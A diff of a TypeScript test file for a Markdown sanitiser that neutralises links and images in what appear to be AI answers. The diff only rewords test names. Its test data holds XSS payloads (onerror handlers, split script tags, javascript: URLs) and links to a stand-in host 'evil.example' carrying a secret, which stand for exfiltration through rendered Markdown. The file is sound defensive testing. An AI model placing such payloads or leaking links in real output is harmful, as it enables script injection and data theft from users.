@@ -8,7 +8,7 @@ const evil = 'https://evil.example/?q=SECRET';
 /** Ways to make a reader of Markdown ask another server, or to hide where a link leads. */
 const attacks: [name: string, markdown: string][] = [
   ['an inline link', `[here](${evil})`],
-  ['with a title', `[here](<${evil}> "title")`],
+  ['an inline link with a title', `[here](<${evil}> "title")`],
   ['an inline picture', `![x](${evil})`],
   ['a picture with brackets in its text', `![a [b] c](${evil})`],
   ['a picture in a link', `[![x](${evil})](${evil})`],
@@ -74,8 +74,8 @@ const mutating: [name: string, markdown: string][] = [
   ],
   ['a paragraph in a drawing', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
   ['a tag in a tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
-  ['two openings', '<<img src=x onerror=alert(1)>'],
-  ['an opening apart from its name by what is not seen', '<\u200bimg src=x onerror=alert(1)>'],
+  ['two opening brackets', '<<img src=x onerror=alert(1)>'],
+  ['a zero width space before a tag name', '<\u200bimg src=x onerror=alert(1)>'],
   ['a picture in the text of a link', '[<img src=x onerror=alert(1)>](x)'],
   ['an address that is a program', '[x](java\nscript:alert(1)) <javascript&colon;alert(1)>'],
   ['a fence that closes in its own name', '```x</code><img src=x onerror=alert(1)>\n```'],
@@ -89,13 +89,13 @@ function expectBroken(text: string): void {
 }
 
 describe('S18: links and pictures', () => {
-  test.each(attacks)('%s is text, its address to be read', (_, markdown) => {
+  test.each(attacks)('%s becomes plain text with a readable address', (_, markdown) => {
     const broken = openLinkBreaker()(markdown);
     expectBroken(broken);
     expect(broken.replaceAll(' ', '')).toBe(markdown.replaceAll(' ', ''));
   });
 
-  test.each(attacks)('%s is the same text however it is cut', (_, markdown) => {
+  test.each(attacks)('%s gives the same text however it is cut into deltas', (_, markdown) => {
     const whole = openLinkBreaker()(markdown);
     for (let size = 1; size <= 5; size += 1) {
       const breakText = openLinkBreaker();
@@ -107,15 +107,18 @@ describe('S18: links and pictures', () => {
     }
   });
 
-  test.each(mutating)('S17: %s stays text for every parser', (_, markdown) => {
-    expect(() => expectBroken(markdown)).toThrow();
-    const broken = openLinkBreaker()(markdown);
-    expectBroken(broken);
-    expectBroken(openLinkBreaker()(broken));
-    expect(broken.replaceAll(' ', '')).toBe(markdown.replaceAll(' ', ''));
-  });
+  test.each(mutating)(
+    'S17: markup that parsers repair (%s) leaves no tag, link or picture',
+    (_, markdown) => {
+      expect(() => expectBroken(markdown)).toThrow();
+      const broken = openLinkBreaker()(markdown);
+      expectBroken(broken);
+      expectBroken(openLinkBreaker()(broken));
+      expect(broken.replaceAll(' ', '')).toBe(markdown.replaceAll(' ', ''));
+    },
+  );
 
-  test('a text that was broken is not broken again', () => {
+  test('breaking a text a second time changes nothing', () => {
     for (const [, markdown] of attacks) {
       const broken = openLinkBreaker()(markdown);
       expect(openLinkBreaker()(broken)).toBe(broken);
@@ -128,7 +131,7 @@ describe('S18: links and pictures', () => {
     '# Title\n\n1. one\n2. two\n\n- [ ] open\n- [x] done\n\n> quoted\n\n| a | b |\n|---|:-:|\n| 1 | 2 |',
     'See https://example.com/a?b=c (as text).',
     'مرحبا [1] 大阪 [2]。',
-  ])('ordinary text stays as it is: %j', (text) => {
+  ])('ordinary text is left unchanged: %j', (text) => {
     expect(openLinkBreaker()(text)).toBe(text);
   });
 });
@@ -139,7 +142,7 @@ describe('an answer', () => {
     return { corrections: [], certainty: 'answered' };
   }
 
-  test('has its text broken across deltas, and its citations as they stand on the page', async () => {
+  test('has its links broken even across deltas, and its citations unchanged', async () => {
     const quote = `![x](${evil})`;
     const source = { documentId: 'd', name: 'd.md', pageNumber: 1 };
     const citation = citeQuote(source, quote, quote);
